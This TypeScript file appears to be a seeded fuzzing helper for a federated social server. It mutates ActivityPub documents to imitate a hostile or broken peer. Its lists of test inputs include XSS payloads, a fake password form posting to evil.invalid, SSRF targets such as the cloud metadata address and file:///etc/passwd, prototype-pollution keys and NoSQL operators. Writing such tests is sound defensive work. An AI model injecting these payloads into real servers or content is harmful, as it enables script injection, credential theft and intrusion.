/**
 * What a hostile or broken server might make of a recorded activity: the same document with
 * values swapped, moved, repeated, grown or taken away, where they stand. All chance comes from
 * a seed, so that a failure can be sent again.
 */
import type { JsonObject } from '@mitoyen/federation';

export type Random = {
  /** A whole number below this. */
  below: (limit: number) => number;
  pick: <T>(list: readonly T[]) => T;
};

/** Mulberry32: small, and good enough to choose what to break. */
export function createRandom(seed: number): Random {
  let state = seed >>> 0;
  const next = () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
  };
  const below = (limit: number) => Math.floor(next() * limit);
  return {
    below,
    pick: (list) => {
      if (list.length === 0) throw new Error('nothing to pick from');
      return list[below(list.length)] as (typeof list)[number];
    },
  };
}

/** What may be put in the place of something else. */
export type MutationPool = {
  /** Ids that mean something to the receiver: its own people, groups and posts, other servers' too. */
  ids: string[];
  /** Other recorded documents, to take parts from. */
  documents: JsonObject[];
};

const TYPES =
  'Create Update Delete Announce Like Undo Follow Accept Reject Add Remove Block Flag Move Join Leave Invite Offer Question Note Article Page Event Video Image Document Audio Tombstone Person Group Service Application Organization OrderedCollection Collection Link Mention Hashtag Emoji EmojiReact ChatMessage Relationship'.split(
    ' ',
  );
const PUBLIC = 'https://www.w3.org/ns/activitystreams#Public';
const STRANGE_HTML = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)><svg/onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a><a href="data:text/html,<script>1</script>">y</a>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '</p></div><form action="https://evil.invalid"><input name=password></form>',
];
const STRANGE_TEXTS = [
  ...STRANGE_HTML,
  '',
  ' ',
  '\u0000',
  '\ud800',
  '\u202eevil\u202c',
  'é'.normalize('NFD').repeat(500),
  'a'.repeat(100_000),
  'javascript:alert(1)',
  'data:text/html;base64,PHNjcmlwdD4=',
  'file:///etc/passwd',
  'http://169.254.169.254/latest/meta-data/',
  'http://[::1]:1/',
  'https://user:password@example.org/',
  'https://example.org:99999/',
  'HTTPS://EXAMPLE.ORG/../../x',
  'acct:amina@example.org',
  '0000-00-00T99:99:99Z',
  '9999999-01-01T00:00:00Z',
  '1970-01-01T00:00:00Z',
  'P99999999999Y',
  PUBLIC,
  'as:Public',
  'Public',
  '__proto__',
  '$where',
];
const KEYS =
  'id type actor object target to cc bto bcc audience attributedTo inReplyTo content name summary tag attachment url published updated endTime startTime oneOf anyOf closed votersCount replies likes shares sensitive source contentMap mediaType href icon image publicKey inbox outbox followers endpoints preferredUsername alsoKnownAs movedTo proof quoteUrl context conversation @context __proto__ constructor toString'.split(
    ' ',
  );

/** The same document with one to four changes. */
export function mutate(document: JsonObject, random: Random, pool: MutationPool): JsonObject {
  const copy = structuredClone(document);
  const changes = 1 + random.below(4);
  for (let done = 0; done < changes; done += 1) changeOne(copy, random, pool);
  return copy;
}

type Holder = JsonObject | unknown[];

function changeOne(document: JsonObject, random: Random, pool: MutationPool): void {
  const holder = random.pick(holdersIn(document));
  const keys = Object.keys(holder);
  const key = keys.length > 0 ? random.pick(keys) : random.pick(KEYS);
  switch (random.below(12)) {
    case 0:
      remove(holder, key);
      return;
    case 7:
    case 8:
      shown(document, random);
      return;
    case 1:
      set(holder, key, wrapped(read(holder, key), random));
      return;
    case 2:
      set(holder, random.pick(KEYS), read(holder, key));
      return;
    case 3:
      set(holder, random.pick(KEYS), strange(random, pool));
      return;
    case 4:
      set(holder, 'type', random.pick(TYPES));
      return;
    case 5:
      set(holder, random.pick(['to', 'cc', 'audience', 'bto']), audience(random, pool));
      return;
    case 6:
      set(holder, random.pick(IDENTIFYING), random.pick(pool.ids));
      return;
    default:
      set(holder, key, strange(random, pool));
  }
}

/** What people would see: a text or profile becomes something that must not reach a browser. */
function shown(document: JsonObject, random: Random): void {
  const holders = holdersIn(document).filter((one) => 'content' in one || 'summary' in one);
  if (holders.length === 0) return;
  const text = random.pick(STRANGE_HTML);
  set(random.pick(holders), random.pick(['content', 'summary', 'name']), text);
}

const IDENTIFYING = ['id', 'actor', 'attributedTo', 'object', 'target', 'inReplyTo', 'url', 'href'];

/** Every object and list within, contexts included; at most a few hundred. */
function holdersIn(document: JsonObject): Holder[] {
  const found: Holder[] = [document];
  for (let at = 0; at < found.length && found.length < 300; at += 1)
    for (const value of Object.values(found[at] as object))
      if (typeof value === 'object' && value !== null) found.push(value as Holder);
  return found;
}

function read(holder: Holder, key: string): unknown {
  return Object.hasOwn(holder, key) ? structuredClone((holder as JsonObject)[key]) : undefined;
}

/** As an own property, `__proto__` too: that is what JSON carries. A list has items alone. */
function set(holder: Holder, key: string, value: unknown): void {
  if (Array.isArray(holder) && !/^\d+$/.test(key)) {
    holder.push(value);
    return;
  }
  Object.defineProperty(holder, key, {
    value,
    enumerable: true,
    configurable: true,
    writable: true,
  });
}

function remove(holder: Holder, key: string): void {
  if (Array.isArray(holder)) holder.splice(Number(key) || 0, 1);
  else delete holder[key];
}

function wrapped(value: unknown, random: Random): unknown {
  switch (random.below(5)) {
    case 0:
      return [value];
    case 1:
      return { id: value };
    case 2:
      return Array.from({ length: 2 + random.below(2000) }, () => value);
    case 3:
      return nested(value, 1 + random.below(400));
    default:
      return { type: random.pick(TYPES), object: value };
  }
}

function nested(value: unknown, depth: number): unknown {
  let inner = value;
  for (let level = 0; level < depth; level += 1)
    inner = level % 2 === 0 ? [inner] : { object: inner };
  return inner;
}

function strange(random: Random, pool: MutationPool): unknown {
  switch (random.below(8)) {
    case 0:
      return null;
    case 1:
      return random.pick([0, -1, 1e308, 2 ** 53, 0.5, true, false]);
    case 2:
      return random.pick([[], {}, [[]], [null], { '': '' }, { $gt: '' }, { 'a.b': 1 }]);
    case 3:
    case 4:
      return random.pick(pool.ids);
    case 5:
      return structuredClone(random.pick(holdersIn(random.pick(pool.documents))));
    default:
      return random.pick(STRANGE_TEXTS);
  }
}

function audience(random: Random, pool: MutationPool): unknown {
  const some = Array.from({ length: random.below(4) }, () => random.pick(pool.ids));
  return random.pick([some, [PUBLIC, ...some], PUBLIC, 'as:Public', null, [null, ...some]]);
}
